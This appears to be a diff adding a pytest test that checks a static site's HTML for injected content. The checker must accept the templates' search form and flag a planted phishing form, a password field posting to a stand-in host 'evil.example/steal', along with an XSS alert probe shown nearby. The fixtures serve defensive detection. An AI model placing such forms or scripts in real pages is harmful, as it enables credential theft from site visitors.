@@ -389,3 +389,17 @@ def test_the_site_checks_see_an_injection(tmp_path: Path):
                     "injected <img>", "raw control character", "not JSON"):
         assert problem in found, found
     assert site.verbatim("<script>alert(1)</script>") == ["packages/a.html"]
+
+
+def test_the_site_checks_allow_only_the_templates_search_form(tmp_path: Path):
+    """The search box the templates write passes; a payload's form, field or button does not."""
+    store = LocalStore(tmp_path, fsync=False)
+    ours = ('<form class="site-search" role="search" action="../search.html" method="get">'
+            '<input type="search" name="q"> <button type="submit">Search</button></form>')
+    store.put("site/packages/ours.html", f"<!doctype html>{ours}".encode(), content_type="text/html; charset=utf-8")
+    theirs = ('<form action="https://evil.example/steal" method="post"><input type="password" name="pw">'
+              '<button>Log in</button></form><p><input name="q" type="search"><button type="submit">x</button></p>')
+    store.put("site/packages/theirs.html", f"<!doctype html>{theirs}".encode(), content_type="text/html; charset=utf-8")
+    problems = PublishedSite.read(store).problems
+    assert not [p for p in problems if "ours.html" in p], problems
+    assert sum("theirs.html" in p and "injected <" in p for p in problems) == 5, problems
